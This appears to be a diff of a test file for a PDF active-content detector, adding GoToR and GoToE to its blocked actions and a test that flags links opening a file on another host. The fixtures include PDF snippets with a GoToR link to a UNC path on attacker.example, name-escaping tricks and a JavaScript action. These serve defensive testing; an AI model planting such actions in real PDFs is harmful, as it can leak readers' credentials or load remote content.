@@ -96,9 +96,16 @@ describe('active content in documents', () => {
 
   it('sees through escaped names and each kind of active content', async () => {
     expect(await pdfActiveContent(pdf('1 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj'))).toEqual({ kind: 'pdf-active-content', name: 'JavaScript' });
-    for (const name of ['Launch', 'EmbeddedFile', 'RichMedia', 'XFA', 'SubmitForm', 'ImportData', 'JS']) {
+    for (const name of ['Launch', 'EmbeddedFile', 'RichMedia', 'XFA', 'SubmitForm', 'ImportData', 'JS', 'GoToR', 'GoToE']) {
       expect((await pdfActiveContent(pdf(`1 0 obj << /A << /S /${name} >> >> endobj`)))?.kind, name).toBe('pdf-active-content');
     }
+  });
+
+  it('refuses a link that opens a file on another host (GoToR to a UNC path), escaped or not', async () => {
+    expect(await pdfActiveContent(pdf('1 0 obj << /Type /Annot /Subtype /Link /A << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >> >> endobj'))).toEqual({ kind: 'pdf-active-content', name: 'GoToR' });
+    expect(await pdfActiveContent(pdf('1 0 obj << /OpenAction << /S /GoTo#52 /F (//attacker.example/x.pdf) >> >> endobj'))).toEqual({ kind: 'pdf-active-content', name: 'GoToR' });
+    // A go-to within the document itself is harmless and stays allowed.
+    expect(await pdfActiveContent(pdf('1 0 obj << /Type /Annot /Subtype /Link /A << /S /GoTo /D [0 /Fit] >> >> endobj'))).toBeUndefined();
   });
 
   it('refuses a script in an object stream that calls itself an image, which a reader runs', async () => {
